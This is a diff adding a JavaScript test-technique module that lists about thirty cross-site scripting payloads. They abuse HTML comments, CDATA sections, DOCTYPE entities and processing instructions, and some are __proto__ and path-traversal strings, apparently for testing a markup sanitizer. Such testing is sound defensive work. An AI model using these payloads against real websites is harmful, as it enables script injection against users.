@@ -1,0 +1,37 @@
+import { asMarkup } from '../careless.mjs';
+
+/** @type {import('../techniques.mjs').Technique} */
+export default {
+  name: 'comments, CDATA and declarations',
+  control: asMarkup,
+  payloads: [
+    '<!--><script>alert(1)</script>-->',
+    '<!---><script>alert(1)</script>-->',
+    '<!-- --!><script>alert(1)</script>-->',
+    '<!--<!--><script>alert(1)</script>-->',
+    '<!-- x --><script>alert(1)</script><!-- y -->',
+    '--><script>alert(1)</script><!--',
+    '--!><img src=x onerror=alert(1)><!--',
+    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<![CDATA[><img src=x onerror=alert(1)>]]>',
+    '<svg><![CDATA[<]]>script<![CDATA[>]]>alert(1)</svg>',
+    '<svg><![CDATA[]]><script>alert(1)</script></svg>',
+    ']]><script>alert(1)</script>',
+    '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
+    '<!x><img src=x onerror=alert(1)>',
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    '<?php echo "<script>alert(1)</script>" ?>',
+    '<?xml-stylesheet href="javascript:alert(1)"?>',
+    '<% alert(1) %><img src=x onerror=alert(1)>',
+    '</!><script>alert(1)</script>',
+    '</ script><script>alert(1)</script>',
+    '<!-- ad x" onmouseover="alert(1) -->',
+    '<!-- ad x --><script>alert(1)</script><!-- -->',
+    '<!-- ad ../../x -->',
+    '<!-- ad <script>alert(1)</script> -->',
+    '<!-- ad x\n--><img src=x onerror=alert(1)> -->',
+    '<!-- ad constructor -->',
+    '<!-- ad __proto__ -->',
+  ],
+};
